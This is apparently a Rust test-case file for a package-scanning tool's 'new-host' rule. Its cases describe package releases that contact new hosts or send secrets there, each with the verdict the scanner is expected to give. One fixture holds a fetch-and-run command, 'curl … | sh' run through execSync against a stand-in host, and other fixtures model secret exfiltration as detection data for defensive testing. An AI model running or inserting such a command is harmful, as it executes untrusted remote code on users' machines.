//! Cases of `new-host`.

use crate::support::{Case, code, fact, key, lately, mail, minor as next, release, update, with_history};
use stockade_assess::facts::{Class, Sink};

pub(crate) fn cases() -> Vec<Case> {
    let host = |name: &str| fact(Class::Host, name, 9);
    let minor = {
        let mut subject =
            with_history(mail(), |history| history.releases.push(release("1.1.0", "2025-06-01T00:00:00Z")));
        subject.package.version = Some("1.1.0".into());
        subject.facts = code(&[host("metrics.vendor.dev").into_sink(key("endpoint"))]).into();
        subject
    };
    vec![
        Case::new(
            "D7",
            &update("acme-mail", &[host("giftshop.club")]),
            &["show/low/medium `acme-mail@1.0.16` names hosts that 1.0.15 did not: `giftshop.club`"],
        ),
        Case::new(
            "D7 beside a new ability",
            &update("acme-mail", &[host("giftshop.club"), fact(Class::Capability, "socket", 9)]),
            &["hold/medium/medium `acme-mail@1.0.16` names hosts that 1.0.15 did not: `giftshop.club`"],
        ),
        Case::new(
            "D8 in a patch",
            &update("acme-mail", &[host("giftshop.club").into_sink(key("webhook"))]),
            &["show/low/medium `acme-mail@1.0.16` names hosts that 1.0.15 did not: `giftshop.club`"],
        ),
        Case::new(
            "beside an ability that sends nothing",
            &update("acme-mail", &[host("giftshop.club"), fact(Class::Capability, "fs-read", 9)]),
            &["show/low/medium `acme-mail@1.0.16` names hosts that 1.0.15 did not: `giftshop.club`"],
        ),
        Case::new(
            "D8 in a minor release",
            &minor,
            &["show/low/medium `acme-mail@1.1.0` names hosts that 1.0.15 did not: `metrics.vendor.dev`"],
        ),
        Case::new(
            "its own, local and reserved ones",
            &update(
                "acme-mail",
                &[host("api.acme.com"), host("localhost").into_sink(key("url")), host("docs.example.com")],
            ),
            &[],
        ),
        Case::new(
            "a secret that goes to a new host, in a minor release",
            &next("acme-mail", &[fact(Class::SecretSent, "giftshop.club", 9).into_sink(Sink::Send)]),
            &["hold/medium/medium `acme-mail@1.1.0` names hosts that 1.0.15 did not: `giftshop.club`"],
        ),
        Case::new(
            "a service's own key, in a minor release",
            &next(
                "acme-mail",
                &[
                    fact(Class::SecretSent, "openrouter.ai", 9).into_sink(Sink::Send),
                    fact(Class::Environment, "OPENROUTER_API_KEY", 9),
                ],
            ),
            &[],
        ),
        Case::new(
            "a secret that goes to a service of the scope, in a minor release",
            &next("@acmecorp/dev", &[fact(Class::SecretSent, "api.acmecorpcloud.com", 9).into_sink(Sink::Send)]),
            &[],
        ),
        Case::new(
            "a service that bears the name of a package without a scope",
            &next("acmecorp-dev", &[fact(Class::SecretSent, "api.acmecorpcloud.com", 9).into_sink(Sink::Send)]),
            &["hold/medium/medium `acmecorp-dev@1.1.0` names hosts that 1.0.15 did not: `api.acmecorpcloud.com`"],
        ),
        Case::new(
            "a shell that gets what is fetched, in a minor release",
            &next(
                "acme-mail",
                &[host("cdn.giftshop.club").reading("execSync(\"curl -s https://cdn.giftshop.club/x.sh | sh\");")],
            ),
            &["hold/medium/medium `acme-mail@1.1.0` names hosts that 1.0.15 did not: `cdn.giftshop.club`"],
        ),
        Case::new(
            "one more release after the one that sent a secret there",
            &lately("acme-mail", &[fact(Class::SecretSent, "giftshop.club", 9).into_sink(Sink::Send)]),
            &["hold/medium/medium `acme-mail@1.0.16` names hosts that 1.0.14 did not: `giftshop.club`"],
        ),
        Case::new("a host, one more release after it", &lately("acme-mail", &[host("giftshop.club")]), &[]),
        Case::new("nothing new", &mail(), &[]),
    ]
}
